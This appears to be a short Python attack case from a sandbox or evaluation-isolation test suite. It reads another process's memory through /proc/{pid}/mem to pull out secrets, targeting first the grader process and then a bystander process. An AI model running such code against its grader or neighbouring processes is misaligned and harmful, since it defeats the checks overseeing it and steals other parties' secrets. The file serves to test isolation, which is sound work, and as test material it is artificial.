"""Success: memory of the grader, or of a process beside, through /proc."""

import os

from kit import secrets_in, tries


def read(pid, address, length):
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    return secrets_in(os.pread(fd, length, address))


def attack(a):
    return tries(
        lambda: read(a["grader_pid"], a["grader_address"], a["length"]),
        lambda: read(a["bystander_pid"], a["bystander_address"], a["length"]),
    )
